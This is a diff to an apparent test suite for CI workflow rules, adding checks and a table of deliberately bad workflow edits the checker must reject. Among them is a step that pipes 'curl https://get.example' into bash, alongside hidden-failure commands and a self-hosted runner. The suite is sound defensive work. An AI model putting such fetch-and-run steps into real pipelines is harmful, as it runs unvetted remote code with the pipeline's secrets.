@@ -95,6 +95,10 @@ test('ci tells what is in a release and what is known to be wrong with it, and a
   expect(Object.keys(on)).toEqual(expect.arrayContaining(['pull_request', 'workflow_call']));
   const deployed = workflow('deploy-environment.yml');
   expect(scripts(deployed.jobs.plan.steps)).toMatch(/^ *az deployment group what-if /m);
+  const kept = jobs.dependencies.steps.find(({ with: given }: { with?: { name?: string } }) => given?.name === 'sbom');
+  expect(kept.with).toMatchObject({ path: 'sbom.cdx.json', 'if-no-files-found': 'error' });
+  // A job that is skipped lets those go on that need it.
+  for (const job of Object.values<object>(jobs)) expect(job).not.toHaveProperty('if');
 });
 
 test('the real compiler in ci has a value for each of them that has no default', () => {
@@ -236,7 +240,26 @@ const PLANTED: readonly [what: string, from: string | RegExp, to: string, line: 
     13,
     /hides/,
   ],
-  ['a command whose failure is hidden', 'run: echo "$TOKEN"', 'run: npm audit || true', 33, /hides/],
+  ...[
+    'npm audit || true',
+    '|\n          az bicep build || : > plan.txt',
+    '|\n          npm audit || true\n          echo it',
+  ].map((run): (typeof PLANTED)[number] => [
+    `a command whose failure is hidden: ${run}`,
+    'run: echo "$TOKEN"',
+    `run: ${run}`,
+    33,
+    /hides/,
+  ]),
+  ['a script from elsewhere', 'run: echo "$TOKEN"', 'run: curl -sSf https://get.example | bash', 33, /what is fetched/],
+  ['a machine of our own', 'runs-on: ubuntu-24.04', 'runs-on: self-hosted', 11, /must run on ubuntu-24\.04/],
+  [
+    'what another job has made, over the scripts',
+    'run: echo "$TOKEN"',
+    'uses: actions/download-artifact@37930b1c2abaa49bbe596cd826c3c89aef350131 # v7.0.0\n        with:\n          path: .',
+    33,
+    /lands in deploy/,
+  ],
   ['pushes to another branch', 'pull_request:', 'push:\n    branches: [master]', 4, /branches: \[main\]/],
   ['pushes to every branch', 'pull_request:', 'push:', 3, /branches: \[main\]/],
   [
